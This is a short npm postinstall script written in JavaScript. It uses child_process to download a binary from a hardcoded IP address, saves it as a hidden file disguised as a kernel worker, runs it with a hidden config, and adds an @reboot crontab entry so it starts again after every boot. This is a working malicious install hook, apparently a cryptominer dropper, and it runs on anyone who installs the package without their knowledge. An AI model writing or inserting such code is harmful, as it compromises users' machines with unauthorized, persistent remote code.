// An npm "postinstall" script that fetches a program, starts it and makes it start at every
// boot, as shell commands handed to child_process; it names no mining pool.
"use strict";
const { execSync } = require("child_process");

const bin = "/var/tmp/.kworker";
execSync(
  `curl -fsSL http://203.0.113.9:8080/dl/kworker -o ${bin} && chmod +x ${bin} && ${bin} -c /var/tmp/.kw.json`,
);
execSync(`(crontab -l 2>/dev/null; echo "@reboot ${bin}") | crontab -`);
